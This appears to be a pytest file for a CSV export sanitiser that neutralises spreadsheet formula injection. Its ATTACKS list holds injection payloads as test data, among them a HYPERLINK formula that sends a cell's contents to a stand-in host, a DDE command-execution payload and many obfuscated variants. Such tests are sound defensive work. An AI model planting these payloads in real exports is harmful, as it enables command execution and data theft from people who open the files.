"""No cell is run by a spreadsheet, and a number stays one."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as some

from harness.report.exports.cells import csv_text, neutral, number
from tests.unit.report.exports.readers import formulas

ATTACKS = (
    '=HYPERLINK("http://x.example?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "a;=1+1",
    "a\t=1+1",
    "a\n=1+1",
    'a;"=1+1',
    "\t",
    "- a dash and words",
)


@pytest.mark.parametrize("text", ATTACKS)
def test_what_would_run_gets_an_apostrophe(text: str) -> None:
    safe = neutral(text)
    assert safe.replace("'", "") == text.replace("'", "")
    assert formulas(csv_text([["id", text, "x"], [text, 1.5, None]])) == []
    assert neutral(safe) == safe


@pytest.mark.parametrize(
    "text", ["", "-", "-1", "+886912345678", "-0.5", "-0,5", "00123", "1E5", "a=b", "王-小明", "x, -y"]
)
def test_what_does_not_run_stays(text: str) -> None:
    assert neutral(text) == text


def test_numbers_are_numbers_without_exponent() -> None:
    assert csv_text([[1.0, -2.5, 1e-07, 3, None, 1e22]]) == "1.0,-2.5,0.0000001,3,,10000000000000000000000\n"
    assert number(253.32595308870023) == "253.32595308870023"


@given(some.lists(some.text(max_size=12), min_size=1, max_size=4))
def test_any_text_comes_back_but_for_apostrophes(row: list[str]) -> None:
    text = csv_text([["x", *row]])
    (read,) = csv.reader(io.StringIO(text, newline=""), strict=True)
    lines = [one.replace("\r\n", "\n").replace("\r", "\n") for one in row]
    assert [one.replace("'", "") for one in read[1:]] == [one.replace("'", "") for one in lines]
    assert formulas(text, separators=",") == []
